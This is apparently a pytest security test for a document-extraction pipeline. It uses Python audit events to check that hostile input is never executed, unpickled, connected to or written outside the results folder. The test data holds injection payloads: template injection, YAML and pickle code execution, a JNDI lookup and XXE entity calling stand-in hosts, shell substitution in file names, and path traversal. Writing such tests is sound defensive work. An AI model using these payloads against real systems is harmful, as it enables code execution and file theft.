"""The real command with its real processes, watched by Python's audit events.

What a document holds is nowhere run, unpickled or followed: no connection is made, and nothing
is written outside the folder of the results.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import NamedTuple

import pytest

from tests.pdfs import make_pdf

ROOT = Path(__file__).parents[1]
pytestmark = pytest.mark.model

# A word that no program has, and everything that some program would run or follow.
MARK = "甲乙丙丁戊"
TEXT = f"""{MARK}報告書
__import__("os").system("touch {MARK}") # {MARK}
{{{{ cycler.__init__.__globals__.os.popen("id").read() }}}} {{% include "/etc/passwd" %}} {MARK}
!!python/object/apply:os.system ["id"] ${{jndi:ldap://{MARK}.example/a}} $(touch {MARK}) `id`
cos\nsystem\n(S'touch {MARK}'\ntR.
<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "http://{MARK}.example/">]><a>&b;</a>
<script src="http://{MARK}.example/"></script> =HYPERLINK("http://{MARK}.example/") ../../../../{MARK}
平成30年３月、{MARK}株式会社の山田太郎社長が経済産業省で述べた。
"""
SIDECAR = f'title = "{MARK}"\nsource_url = "http://{MARK.encode().hex()}.example/{MARK}"\n'


class Event(NamedTuple):
    process: int
    name: str
    arguments: list[str]
    place: str


class Watched(NamedTuple):
    output: Path
    events: list[Event]

    def called(self, *names: str) -> list[Event]:
        return [event for event in self.events if event.name.startswith(names)]


@pytest.fixture(scope="module")
def watched(tmp_path_factory: pytest.TempPathFactory) -> Watched:
    folder = tmp_path_factory.mktemp("watched")
    raw, output = folder / "raw", folder / "outputs"
    for name in ("a", "%2E%2E%2Fa", "-o", "$(touch x)", "{{7*7}}", "a;id", "=1+1"):
        (raw / name).mkdir(parents=True)
        (raw / name / "x.txt").write_text(TEXT, encoding="utf-8")
    (raw / "a" / "x.toml").write_text(SIDECAR, encoding="utf-8")
    (raw / "b.pdf").write_bytes(make_pdf([TEXT], more=f"/URI(http://{MARK}.example)".encode()))
    (raw / "c.txt").write_bytes(b"\x80\x04\x95" + TEXT.encode())
    environment = {
        **os.environ, "PYTHONPATH": os.pathsep.join([str(ROOT / "tests/watching"), str(ROOT)]),
        "WATCHING": str(folder / "events"), "PYTHONDONTWRITEBYTECODE": "1",
    }  # fmt: skip
    command = [sys.executable, "-m", "pipeline", "extract", str(raw), "--output", str(output)]
    done = subprocess.run(
        [*command, "--workers", "2", "--lang", "en"], cwd=folder, env=environment,
        capture_output=True, text=True, encoding="utf-8", check=False,
    )  # fmt: skip
    assert done.returncode in (0, 1), done.stderr
    assert len(list(output.glob("documents/**/*.json"))) >= 8
    assert sorted(path.name for path in folder.iterdir()) == ["events", "outputs", "raw"]
    lines = (folder / "events").read_text(encoding="utf-8").splitlines()
    return Watched(output, [Event(*json.loads(line)) for line in lines])


def test_what_must_not_be_would_be_seen(tmp_path: Path) -> None:
    program = (
        "import pickle, socket\n"
        "pickle.loads(b'cposix\\ngetpid\\n.')\n"
        "exec('甲乙丙丁戊 = 1')\n"
        "open('x', 'w').close()\n"
        "try: socket.create_connection(('127.0.0.1', 9), timeout=1)\n"
        "except OSError: pass\n"
    )
    environment = {
        **os.environ, "PYTHONPATH": str(ROOT / "tests/watching"), "WATCHING": str(tmp_path / "events"),
    }  # fmt: skip
    subprocess.run([sys.executable, "-c", program], cwd=tmp_path, env=environment, check=True)
    events = [json.loads(line) for line in (tmp_path / "events").read_text().splitlines()]
    seen = {(name, arguments[0] if name == "open" else "") for _, name, arguments, _ in events}
    assert seen >= {("pickle.find_class", ""), ("socket.connect", ""), ("open", "x")}
    assert any(MARK in " ".join(arguments) for _, name, arguments, _ in events if name == "exec")


def test_all_processes_are_watched(watched: Watched) -> None:
    """The command, two workers, and the one that reads the PDF."""
    assert len({event.process for event in watched.events}) == 4


def test_nothing_is_connected_to(watched: Watched) -> None:
    """Pipes between our own processes apart, there is no socket but one that goes nowhere."""
    free = ("socket.__new__", "socket.gethostname")
    others = [event for event in watched.called("socket.") if event.name not in free]
    # spaCy imports what could download a model, which tries as it is imported whether there
    # is IPv6, by binding a socket to loopback; nothing is sent.
    assert {(event.name, event.arguments[1]) for event in others} <= {("socket.bind", "('::1', 0)")}
    assert all("urllib3/util/connection.py" in event.place for event in others)
    clients = ("urllib.", "http.", "ftplib.", "smtplib.", "telnetlib.", "imaplib.", "webbrowser.")
    assert watched.called(*clients) == []


def test_nothing_is_unpickled(watched: Watched) -> None:
    assert watched.called("pickle.") == []
    # Python's own way to load the compiled code of modules.
    assert {event.place.split(":")[0] for event in watched.called("marshal.loads")} <= {
        "<frozen importlib._bootstrap_external>", "<frozen zipimport>",
    }  # fmt: skip


def test_nothing_of_a_document_is_code(watched: Watched) -> None:
    code = watched.called("exec", "compile", "code.")
    assert len(code) > 1000
    assert [event for event in code if MARK in " ".join(event.arguments)] == []


def test_no_program_is_started_but_our_own_and_git(watched: Watched) -> None:
    assert (
        watched.called("os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.startfile") == []
    )
    started = watched.called("subprocess.Popen")
    assert {event.arguments[0] for event in started} == {sys.executable, "git"}
    assert [event for event in started if MARK in event.arguments[1]] == []


def test_nothing_is_written_but_results(watched: Watched) -> None:
    written = {
        path
        for event in watched.called("open", "os.rename", "os.remove", "os.mkdir", "os.rmdir",
                                    "os.link", "os.symlink", "os.truncate", "os.chmod", "os.utime")
        for path in event.arguments[: 2 if event.name in ("os.rename", "os.link") else 1]
        # A number is a descriptor: one that is open already.
        if not path.isdecimal()
    }  # fmt: skip
    inside = {path for path in written if Path(path).is_relative_to(watched.output)}
    # Where output goes that nobody reads; what tells the kernel to end a worker before its parent.
    assert written - inside <= {os.devnull, "/proc/self/oom_score_adj"}
    assert len(inside) > 20
    assert not any(".." in Path(path).parts for path in inside)
